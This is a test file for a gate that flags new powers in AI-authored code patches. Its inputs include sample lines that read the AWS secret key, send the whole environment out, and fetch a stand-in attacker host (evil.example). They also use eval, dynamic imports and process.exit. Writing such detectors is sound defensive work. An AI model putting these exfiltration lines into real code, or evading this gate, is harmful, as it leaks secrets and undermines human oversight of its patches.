import { describe, expect, it } from 'vitest';
import { checkPowers } from '../../../../../shared/rules/gate/powers.ts';

const BASE = new Map([['src/a.ts', "export const url = process.env.CATALOGUE_URL ?? 'https://catalogue.example.com/v1';\n"]]);
const findings = (text: string, { author = 'model', path = 'src/new.ts' }: { author?: 'model' | 'recipe' | 'person'; path?: string } = {}) => checkPowers({ before: BASE, after: new Map([...BASE, [path, text]]), changed: [path], author });

describe('the powers of a patch', () => {
  it.each([
    ['another environment variable', 'const key = process.env.AWS_SECRET_ACCESS_KEY;'], ['all of the environment', 'send(process.env);'], ['another host', "fetch('https://evil.example/collect');"], ['a host in a template', 'fetch(`http://evil.example/${id}`);'],
    ['the end of the process', 'process.exit(0);'], ['output as a test runner would write it', "process['stdout'].write(x);"], ['eval', "eval('1');"], ['a function made of text', "new Function('return 1')();"], ['a module chosen at run time', 'await import(name);'],
    ['require of an expression', "require('f' + 's');"], ['the global object', "globalThis['process'];"], ['process under another name', 'const { env } = process;'],
  ])('do not grow by %s', (_, text) => {
    expect(findings(`\n${text}`)).toEqual([expect.objectContaining({ path: 'src/new.ts', line: 2 })]);
  });

  it.each([['what is in use already', "fetch(process.env['CATALOGUE_URL'] ?? 'https://catalogue.example.com/v2');"], ['a member that only has the name', 'queue.process(job.eval); const x = { process: 1 };'], ['a fixed module', "await import('./a.ts');"]])('include %s', (_, text) => {
    expect(findings(text)).toEqual([]);
  });

  it('let a new test set the environment and name hosts, but not steer its process', () => {
    const path = 'test/new.test.ts';
    expect(findings("process.env.PAYMENTS_URL = 'http://127.0.0.1';", { path })).toEqual([]);
    expect(findings('process.exit(0);', { path })).toHaveLength(1);
  });

  it('are a person’s own business', () => {
    expect(findings('process.exit(1);', { author: 'person' })).toEqual([]);
  });
});
